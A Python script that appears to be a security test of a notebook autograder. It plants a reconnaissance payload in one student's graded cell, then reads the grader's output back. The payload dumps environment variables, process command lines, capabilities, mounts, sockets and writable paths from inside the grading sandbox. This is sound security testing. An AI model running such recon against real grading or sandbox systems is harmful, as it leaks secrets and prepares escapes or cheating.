"""a01: recon of the sandbox from inside a kernel (as root grader); prints into the graded notebook's output."""
from harness import *
RECON = r'''
import os, subprocess, sys, glob, socket
def sh(c):
    try: return subprocess.run(c, shell=True, capture_output=True, text=True, timeout=20).stdout[-4000:]
    except Exception as e: return repr(e)
print("ID", sh("id; cat /proc/self/status | grep -E 'Cap|Seccomp|NoNewPrivs|Uid|Gid'"))
print("MOUNTS", sh("cat /proc/self/mountinfo"))
print("CGROUP", sh("cat /proc/self/cgroup; ls /sys/fs/cgroup 2>&1 | head"))
print("PS", sh("ps -eo pid,ppid,uid,pgid,sid,comm,args 2>/dev/null || ls /proc"))
print("ENV", dict(os.environ))
print("UIDMAP", sh("cat /proc/self/uid_map /proc/self/gid_map /proc/self/setgroups"))
print("LIMITS", sh("cat /proc/self/limits"))
print("WRITABLE", sh("for d in / /tmp /dev/shm /home /run /var /usr /etc /proc /sys $HOME $(pwd) $JUPYTER_RUNTIME_DIR; do [ -w $d ] && echo W $d; done; pwd; ls -la"))
print("RUNTIME", sh("ls -la $JUPYTER_RUNTIME_DIR; echo; ls -la /proc/1/fd /proc/*/fd 2>&1 | head -60"))
print("ARGS", sh("for p in /proc/[0-9]*; do echo $p $(tr '\\0' ' ' < $p/cmdline); done"))
print("SYS", sh("ls /sys /sys/devices/system/cpu | head -50; ls /dev -la"))
print("NET", sh("cat /proc/net/unix; cat /proc/net/tcp"))
print("PY", sys.path, sys.executable)
'''
RECON_SRC = "def training_memory(model, optimizer):\n    pass\n" + RECON
if __name__ == "__main__":
    d = make_course("a01")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            c.source = c.source + "\n" + RECON
    put(d, "mallory", nb)
    put(d, "zoe", solution_nb())
    grade(d)
    scores(d); canary_scan(d)
    nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", as_version=4)
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            for o in c.get("outputs", []):
                print(o.get("text", o)[:20000])
